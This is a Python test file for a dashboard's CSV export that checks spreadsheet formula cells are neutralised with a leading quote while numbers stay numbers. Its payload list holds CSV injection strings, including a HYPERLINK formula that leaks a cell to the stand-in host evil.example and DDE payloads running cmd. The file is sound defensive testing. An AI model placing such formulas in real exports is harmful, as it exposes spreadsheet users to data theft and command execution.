"""CSV cells a spreadsheet would run are written as text; numbers stay numbers."""

import csv
import io

import pandas as pd
import pytest

from dashboard.domain.csv_cells import FORMULA_STARTS, csv_bytes, neutralise, spreadsheet_safe

PAYLOADS = (
    '=HYPERLINK("https://evil.example/?d="&B2,"Open the report")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_cell_a_spreadsheet_would_run_gets_a_leading_quote(payload: str):
    assert neutralise(payload) == "'" + payload


def test_every_formula_start_is_covered():
    assert {payload[0] for payload in PAYLOADS} == set(FORMULA_STARTS)


@pytest.mark.parametrize("cell", ["Council tax", "", "1 + 1", "'=already quoted", "a=b"])
def test_ordinary_text_is_left_alone(cell: str):
    assert neutralise(cell) == cell


@pytest.mark.parametrize("cell", [-5, -12.5, 0, 3, True, None, "-5", "-12.50", "+3", "-1e3"])
def test_numbers_stay_numbers(cell: object):
    assert neutralise(cell) == cell


def test_the_csv_neutralises_text_columns_and_writes_numbers_as_numbers():
    frame = pd.DataFrame(
        {"name": ["Fine", *PAYLOADS], "balance": [-1, -2, -3, -4, -5, -6, -7], "sector": "x"}
    )

    rows = list(csv.reader(io.StringIO(csv_bytes(frame).decode(), newline="")))

    assert rows[0] == ["name", "balance", "sector"]
    assert [row[0] for row in rows[1:]] == ["Fine", *("'" + payload for payload in PAYLOADS)]
    assert [row[1] for row in rows[1:]] == ["-1", "-2", "-3", "-4", "-5", "-6", "-7"]


def test_the_frame_given_is_not_changed():
    frame = pd.DataFrame({"name": ["=1+1"], "=col": [1]})

    safe = spreadsheet_safe(frame)

    assert frame["name"].tolist() == ["=1+1"] and list(frame.columns) == ["name", "=col"]
    assert safe["name"].tolist() == ["'=1+1"] and list(safe.columns) == ["name", "'=col"]
